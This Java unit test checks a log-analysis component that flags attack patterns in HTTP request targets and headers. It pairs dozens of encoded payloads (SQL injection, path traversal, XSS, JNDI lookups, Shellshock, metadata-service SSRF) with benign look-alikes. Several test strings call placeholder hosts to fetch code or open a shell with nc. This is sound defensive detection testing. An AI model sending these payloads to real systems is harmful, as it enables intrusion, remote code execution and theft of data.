package io.apilog.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.apilog.agent.AgentFamilies;
import io.apilog.line.Line;
import io.apilog.line.LogFile;
import io.apilog.request.AccessRecord;
import io.apilog.request.Endpoint;
import io.apilog.request.Request;
import io.apilog.request.Rule;
import io.apilog.request.Source;
import io.apilog.request.TargetSigns;
import io.apilog.security.text.EscapeUndoing;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What attacks are made of is found however it is written, and is not found where people and programs mean no harm. */
class AttackSearchTest {
    private static final Endpoint ITEMS = new Endpoint(3, "/items", Rule.ROUTE);

    private final AttackSearch search =
            new AttackSearch(new AgentFamilies(), new TargetSigns(), new EndpointTraits(List.of()));
    private final AccessRecord record = new AccessRecord();

    private List<String> patterns(long found) {
        int patterns = AttackWords.patterns(found);
        return Arrays.stream(AttackPattern.values())
                .filter(pattern -> (patterns & pattern.bit()) != 0)
                .map(AttackPattern::label)
                .toList();
    }

    private long found(Endpoint endpoint) {
        Request request =
                new Request(new Source(0, "web", Map.of()), new LogFile("web", "access.log"), new Line(), record);
        request.named(endpoint);
        return search.in(request);
    }

    private long answered(String target) {
        byte[] bytes = target.getBytes(StandardCharsets.UTF_8);
        record.clear();
        record.target.set(bytes, 0, bytes.length);
        record.status = 200;
        return found(ITEMS);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "/items?id=1%20UNION%20ALL%20SELECT%20null,null | sql_injection",
                "/items?id=1+union/**/select+1 | sql_injection",
                "/items?id=1%2527%2520or%25201=1--%2520 | sql_injection",
                "/items?f=..%2f..%2f..%2fetc%2fpasswd | path_traversal",
                "/items?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afboot.ini | path_traversal",
                "/items?f=....//....//....//etc/passwd | path_traversal",
                "/items/%252e%252e%252f%252e%252e%252fwindows/win.ini | path_traversal",
                "/items?f=..\\..\\windows\\system32\\drivers | path_traversal",
                "/items?q=%3Cscript%3Ealert(1)%3C/script%3E | xss",
                "/items?q=%22%20onmouseover=%22x | xss",
                "/items?c=;wget%20http://192.0.2.1/x | command_injection",
                "/items?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di | command_injection",
                "/items?x=$%7Bjndi:ldap://192.0.2.1/a%7D | jndi",
                "/items?x=%24%7b%24%7blower:j%7dndi | jndi",
                "/items?id=1%20AND%205386%3D5386 | sql_injection",
                "/items?id=1)+aNd+(5386=4211 | sql_injection",
                "/items?id=1%27)%20AND%20%27ab1%27=%27ab1 | sql_injection",
                "/items?id=1%22/**/or/**/%22x%22=%22y | sql_injection",
                "/items?id=-1%20or%203*2=6%20-- | sql_injection",
                "/items?id=1%20ORDER%20BY%205%23 | sql_injection",
                "/items?id=1+order+by+12--+- | sql_injection",
                "/items?id=1%20AND%20ASCII(SUBSTRING((SELECT%20a),1,1))>64 | sql_injection",
                "/items?id=1%20AND%20EXISTS(SELECT%201) | sql_injection",
                "/items?id=1+UN/**/ION+SEL/**/ECT+1 | sql_injection",
                "/items?u=http://169.254.169.254/latest/meta-data/ | path_traversal",
                "/items?h=a%0d%0aSet-Cookie:%20a=b | xss",
                "/items?h=192.0.2.1;ping%20-c%204%20a | command_injection",
                "/items?h=192.0.2.1%26%26whoami | command_injection",
                "/items?__proto__[admin]=1 | command_injection",
                "/items?h=a%0d%0aLocation:%20https://example.com | xss",
                "/items?h=%E5%98%8A%E5%98%8DSet-Cookie:a=b | xss",
                "/items?h=a;cat${IFS}b | command_injection",
                "/items?x=$%7Bj$%7Bk8s:k5:-ND%7Di%7D | jndi",
                "/items?password[$ne]=x | sql_injection",
                "/items?name=a'%20%7C%7C%20'1'=='1 | sql_injection",
                "/items?user=*)(uid=*))(%7C(uid=* | sql_injection",
                "/items?h=1;busybox+wget+http://h/ | command_injection",
                "/items?h=1%7Cnc+-e+/bin/sh+192.0.2.66 | command_injection",
                "/items?h=1%26%26tftp+-g+-r+m+192.0.2.66 | command_injection",
                "/items?h=1%7Ccertutil+-urlcache+-f+http://h/ | command_injection",
                "/items?h=$(nc%20192.0.2.66%201) | command_injection",
                "/items?h=%60nc+192.0.2.66+1%60 | command_injection",
                "/items?h=$(busybox+wget+http://h/) | command_injection",
                "/items?h=1%0aping+-c+3+h | command_injection",
                "/items?h=1;python3+-c+'import+os' | command_injection",
                "/items?id=1+RLIKE+(SELECT+(CASE+WHEN+(1=1)+THEN+1+ELSE+0x28+END)) | sql_injection",
                "/items?id=1+or+not+1=1 | sql_injection",
                "/items?id=1+and+1+like+1 | sql_injection",
                "/items?id=1'+group+by+1,2,3--+ | sql_injection",
                "/items?id=1'%7C%7C(select+1+from+dual)%7C%7C' | sql_injection",
                "/items?id=';+exec+xp_dirtree+'//h/a'-- | sql_injection",
                "/items?name=x%27%20OR%20%27qq%27%20LIKE%20%27qq | sql_injection",
                "/items?id=1%27;%20SHUTDOWN;%20-- | sql_injection",
                "/items?id=1%20and%20benchmark(5000000,md5(1)) | sql_injection",
                "/items?filter=%7B%22password%22:%7B%22$ne%22:null%7D%7D | sql_injection",
                "/items?u=http://[fd00:ec2::254]/latest/ | path_traversal",
                "/items?u=http://2852039166/ | path_traversal",
                "/items?q=%3Cesi:include%20src=a%3E | xss",
                "/items?s=O:8:%22stdClass%22:0:%7B%7D | command_injection",
                "/items?f=a%26b=../../etc/hosts | path_traversal",
                "/x/autodiscover.json?@example.com/owa/ | scanner",
                "/.env | scanner",
                "/items/.git/config | scanner",
            })
    void an_attack_is_found_in_a_target_that_is_answered(String target, String pattern) {
        assertThat(patterns(answered(target))).containsExactly(pattern);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/items/17?fields=id,name&sort=-created_at",
                "/%D8%B5%D9%86%D8%AF%D9%84%DB%8C?q=%D9%82%DB%8C%D9%85%D8%AA+%D9%85%D8%B1%D8%AF%D8%A7%D9%86%D9%87",
                "/%E4%BA%A7%E5%93%81/%E8%AF%A6%E6%83%85?q=%E7%BA%A2%E8%89%B2&page=2",
                "/items?name=%C0%B4%B5%E7%C4%D4",
                "/items?$filter=contains(Name,'a')%20or%20substringof('b',Name)&$orderby=Name%20desc",
                "/items?filter=%7B%22and%22:%5B%7B%22a%22:1%7D,%7B%22b%22:%5B1,2%5D%7D%5D%7D",
                "/items?q=select+a+union+rep+or+a+script+writer",
                "/items?redirect=https%3A%2F%2Fexample.com%2Fhome%3Fa%3Db",
                "/.well-known/openid-configuration",
                "/items?date=2026-11-29T10:00:00%2B01:00&size=10%25",
                "/javascript:void(0)",
                "/items?q=rock+and+roll=1",
                "/items?$filter=Price%20gt%205%20and%20Kind%20eq%20'a'&x='b'",
                "/items?q=status=1%20and%20type=2",
                "/items?q=5+or+6&n=6",
                "/items?sort=order+by+5",
                "/items?note=Name:%20a%0d%0aLocation:%20b",
                "/items?q=how+to+send+set-cookie:+twice",
                "/items?$limit=10&createdAt[$gt]=2026-11-29&filters[name][$in]=a",
                "/items?q=5*(3)*(2)&r=f(*)",
                "/items/download.php?cmd=list",
                "/items?q=alpine+%7C+busybox+docker",
                "/items?note=first%0athen+ping+us",
                "/items?q=use+ssh;+telnet+is+old",
                "/items?q=rock+and+not+5+likes",
                "/items?q=group+by+1",
                "/a/../b.css",
                "/lp?utm_term=%2Fetc%2Fhosts+explained&redirect=https%3A//www.example.com/a%3Fb%3Dc%26d%3D../e",
                "/search?q=information_schema+mysql+docs",
                "/search?q=benchmark(ing)+cpu",
                "/authorize?redirect_uri=http://localhost:3000/callback",
                "/authorize?redirect_uri=http://127.0.0.1:51004/",
                "/query?where=%7B%22age%22:%7B%22$gt%22:18%7D%7D",
            })
    void what_is_ordinary_is_left_alone(String target) {
        assertThat(patterns(answered(target))).isEmpty();
    }

    @Test
    void a_command_to_a_script_among_what_clients_sent_is_found_though_it_is_made_of_letters() {
        byte[] target = "/uploads/2026/a.php?cmd=hostname".getBytes(StandardCharsets.UTF_8);
        record.target.set(target, 0, target.length);
        record.status = 200;
        assertThat(patterns(found(new Endpoint(4, "/uploads/{id}/a.php", Rule.SHAPE))))
                .containsExactly("command_injection");
        target = "/files/s.php?c=ls".getBytes(StandardCharsets.UTF_8);
        record.target.set(target, 0, target.length);
        assertThat(patterns(found(new Endpoint(6, "/files/s.php", Rule.PATH)))).containsExactly("command_injection");
        target = "/shop/a.php?cmd=hostname".getBytes(StandardCharsets.UTF_8);
        record.target.set(target, 0, target.length);
        assertThat(patterns(found(new Endpoint(5, "/shop/a.php", Rule.PATH)))).isEmpty();
    }

    @Test
    void a_word_of_plain_letters_is_found_where_it_was_refused_or_nothing_is_there() {
        byte[] bytes = "/items?a=information_schema.tables".getBytes(StandardCharsets.UTF_8);
        record.target.set(bytes, 0, bytes.length);
        record.status = 404;
        assertThat(patterns(found(Endpoint.UNMATCHED))).containsExactly("sql_injection");
    }

    @Test
    void headers_are_looked_through_too() {
        record.status = 200;
        byte[] agent = "() { :;}; /bin/ping -c 1 192.0.2.1".getBytes(StandardCharsets.UTF_8);
        record.userAgent.set(agent, 0, agent.length);
        byte[] referer = "https://example.com/?x=%24%7Bjndi%3Aldap%3A//192.0.2.1%7D".getBytes(StandardCharsets.UTF_8);
        record.referer.set(referer, 0, referer.length);
        assertThat(patterns(found(ITEMS))).containsExactly("jndi", "shellshock");
        record.referer.clear();
        assertThat(patterns(found(ITEMS))).containsExactly("shellshock");
    }

    @Test
    void conditions_that_wait_are_found_in_an_agent() {
        record.status = 200;
        byte[] agent = "x' AND SLEEP(5)-- 1".getBytes(StandardCharsets.UTF_8);
        record.userAgent.set(agent, 0, agent.length);
        assertThat(patterns(found(ITEMS))).containsExactly("sql_injection");
    }

    @Test
    void a_handshake_of_tls_is_found_where_no_request_is() {
        byte[] hello = {0x16, 3, 1, 2, 0, 1};
        record.malformed.set(hello, 0, hello.length);
        record.status = 400;
        assertThat(patterns(found(Endpoint.MALFORMED))).containsExactly("tls_on_http");
    }

    @Test
    void a_target_of_64_KiB_is_looked_through_to_its_end() {
        for (int before : new int[] {10, 16_370, 16_384 - 30, 40_000, 65_400}) {
            assertThat(patterns(answered("/items?q=" + "a".repeat(before) + "%2527%2520union%2520select%25201")))
                    .as("behind %s bytes", before)
                    .containsExactly("sql_injection");
        }
    }

    @Test
    void prose_about_attacks_is_a_hint_or_likely_but_never_certain() {
        for (String target : List.of(
                "/search?q=how+to+chmod+777+a+folder",
                "/search?q=sql+union+select+tutorial",
                "/search?q=what+is+information_schema",
                "/search?q=rm+-rf+undo")) {
            assertThat(AttackWords.surest(answered(target))).as(target).isLessThan(Grade.CERTAIN.ordinal());
        }
    }

    /** A word that undoing escapes would change could never be found. */
    @Test
    void every_word_is_as_it_is_once_escapes_are_undone() {
        EscapeUndoing undoing = new EscapeUndoing();
        List<String> changed = new ArrayList<>();
        for (String line : AttackWords.lines()) {
            if (line.startsWith("\"")) {
                byte[] word = line.substring(1, line.length() - 1).getBytes(StandardCharsets.UTF_8);
                undoing.undo(word, 0, word.length, false);
                String undone = new String(undoing.bytes(), 0, undoing.length(), StandardCharsets.UTF_8);
                if (!undone.equals(line.substring(1, line.length() - 1))) {
                    changed.add(line);
                }
            }
        }
        assertThat(changed).isEmpty();
    }
}
